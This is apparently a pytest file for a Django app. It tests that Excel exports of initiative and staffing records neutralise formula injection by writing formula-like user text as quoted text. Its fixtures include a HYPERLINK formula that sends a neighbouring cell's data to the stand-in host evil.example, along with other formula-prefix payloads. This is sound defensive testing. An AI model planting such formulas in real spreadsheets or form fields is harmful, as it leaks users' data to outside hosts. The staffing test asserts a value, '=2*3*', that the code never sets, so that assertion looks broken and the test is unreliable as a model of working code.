"""Exports never carry live formulas: text from users is written as text, in every export."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from initiatives.models import Initiative
from staffing.models import StaffGroup, StaffingSnapshot
from tests.initiatives.factories import StatusUpdateFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"klik her")'
# Every prefix a spreadsheet program reads as the start of a formula.
HOSTILE = [HYPERLINK, "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _formula_cells(content: bytes) -> list[str]:
    return [cell.coordinate for cell in _cells(content) if cell.data_type == "f"]


def test_the_initiative_export_writes_formula_like_text_as_text(client, world):
    initiative = world["initiative_a"]
    Initiative.objects.filter(pk=initiative.pk).update(title=HYPERLINK, conditions="=1+2")
    StatusUpdateFactory(
        initiative=initiative,
        period=world["open_period"],
        status_text="@SUM(1,2)",
        next_steps="-2+3",
    )
    client.force_login(world["omu_member"])

    response = client.get(reverse("initiatives:export"), {"halvaar": world["open_period"].pk})

    assert response.status_code == 200
    assert _formula_cells(response.content) == []
    texts = {cell.value for cell in _cells(response.content) if cell.data_type == "s"}
    assert {HYPERLINK, "=1+2", "@SUM(1,2)", "-2+3"} <= texts
    quoted = {cell.value for cell in _cells(response.content) if cell.quotePrefix}
    assert {HYPERLINK, "=1+2", "@SUM(1,2)", "-2+3"} <= quoted


def test_the_staffing_export_writes_formula_like_text_as_text(client, world):
    snapshot = world["snapshot"]
    StaffingSnapshot.objects.filter(pk=snapshot.pk).update(label=HYPERLINK, note="+1+1")
    StaffGroup.objects.filter(pk=StaffGroup.objects.order_by("pk").first().pk).update(
        name="=2*3", note="\t=1+1"
    )
    client.force_login(world["administrator"])

    response = client.get(reverse("staffing:export", args=[snapshot.pk]))

    assert response.status_code == 200
    assert _formula_cells(response.content) == []
    texts = {cell.value for cell in _cells(response.content) if cell.data_type == "s"}
    assert {HYPERLINK, "+1+1", "=2*3", "=2*3*", "\t=1+1"} <= texts


# Each reads back exactly, as text (openpyxl writes through lxml, which keeps a carriage return).
@pytest.mark.parametrize(("text", "read_back"), [(t, t) for t in HOSTILE])
def test_every_formula_prefix_is_written_as_quoted_text(text, read_back):
    from openpyxl import Workbook

    from core.spreadsheets import sheet_append

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Ark")
    sheet_append(sheet, [text, "Almindelig tekst", 12])
    buffer = io.BytesIO()
    workbook.save(buffer)

    first, plain, number = load_workbook(io.BytesIO(buffer.getvalue())).active[1]
    assert (first.value, first.data_type, first.quotePrefix) == (read_back, "s", True)
    assert (plain.value, plain.data_type, plain.quotePrefix) == ("Almindelig tekst", "s", False)
    assert (number.value, number.data_type) == (12, "n")


def test_characters_xml_cannot_hold_are_dropped_instead_of_failing_the_export(client, world):
    Initiative.objects.filter(pk=world["initiative_a"].pk).update(title="Klokke\x07tiltag")
    client.force_login(world["omu_member"])

    response = client.get(reverse("initiatives:export"))

    assert response.status_code == 200
    titles = [c.value for c in _cells(response.content) if c.column == 1]
    assert "Klokketiltag" in titles
